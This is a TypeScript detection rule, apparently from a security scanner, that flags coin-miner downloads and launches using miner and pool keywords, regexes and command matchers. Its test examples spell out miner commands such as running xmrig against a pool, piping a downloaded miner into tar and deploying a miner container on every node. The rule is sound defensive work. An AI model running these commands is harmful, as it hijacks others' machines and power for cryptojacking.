import { commandsThat } from "oktsec/evidence";
import { defineRule } from "oktsec/rule";

export default defineRule({
  id: "CMDEXEC_127",
  title: "A coin miner is fetched or started",
  why: "It pays a stranger with the machine's power, and whoever could start it can do worse.",
  fix: "Stop it and look for how it got in.",
  severity: "high",
  category: "command-execution",
  lane: "block",
  maps: {
    asi: ["ASI05", "ASI02"],
    mcp: ["MCP05"],
    cwe: ["CWE-400"],
    see: ["https://attack.mitre.org/techniques/T1496/"],
  },
  keywords: [
    "xmrig",
    "stratum+",
    "minerd",
    "cpuminer",
    "nanopool",
    "supportxmr",
    "minexmr",
    "moneroocean",
    "coinhive",
    "nicehash",
    "hashvault",
    "--donate-level",
    "ethminer",
    "t-rex.exe",
    "2miners",
    "cryptonight",
    "randomx",
  ],
  match: [
    /\bstratum\+(?:tcp|ssl|tls|udp)(?::\/\/)?[\w.-]{3,80}:\d{2,5}/i,
    commandsThat(({ name, args }) =>
      /^(?:xmrig|minerd|cpuminer|ethminer|nbminer|xmr-stak|t-rex|lolminer|ccminer|cgminer)(?:[-_.][\w.-]{1,20})?$/.test(
          name,
        ) && args.length > 0 && args[0]?.startsWith("-") === true ||
      /^(?:curl|wget|git|docker|npm|npx|pip\d?)$/.test(name) &&
        /(?:^|[\/\s:])xmrig\b|xmrig-|c3pool|moneroocean/i.test(args.join(" "))
    ),
    /\b(?:pool\.)?(?:supportxmr|minexmr|moneroocean|hashvault|nanopool|2miners|nicehash|c3pool)\.(?:com|stream|pro|org):\d{2,5}/i,
    /\bnew\s{1,2}CoinHive\.(?:Anonymous|User)\s{0,2}\(/,
  ],
  examples: {
    flags: [{ text: "./xmrig -o pool.supportxmr.com:443 -u 48abc --tls -B", kind: "command" }, {
      text: "curl -sL https://example.net/xmrig-6.21.0-linux.tar.gz | tar xz",
      kind: "command",
    }, {
      text: 'command: ["minerd", "-a", "cryptonight", "-o", "stratum+tcp://pool.example.org:3333"]',
      kind: "config",
    }, "Run docker run --rm -d registry.example.net/xmrig:latest on every node."],
    passes: ["The report names xmrig as the most common miner.", {
      text: "stratum 2 servers synchronise with stratum 1 servers",
      kind: "document",
    }, { text: "docker run --rm redis:7", kind: "command" }],
  },
});
